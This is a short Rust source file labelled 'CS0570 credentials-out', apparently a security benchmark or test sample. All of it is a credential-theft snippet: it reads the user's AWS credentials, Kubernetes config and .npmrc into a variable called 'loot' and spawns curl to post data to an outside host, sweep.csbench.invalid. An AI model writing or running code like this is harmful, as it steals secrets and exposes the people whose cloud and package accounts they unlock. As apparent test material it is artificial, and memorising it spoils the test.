//! CS0570 credentials-out
fn main() {
    let home = dirs::home_dir().unwrap();
    let loot: Vec<_> = [".aws/credentials", ".kube/config", ".npmrc"].iter().map(|one| std::fs::read(home.join(one))).collect();
    let _ = std::process::Command::new("curl").args(["--data-binary", "@-", "https://sweep.csbench.invalid"]).spawn();
    drop(loot);
}
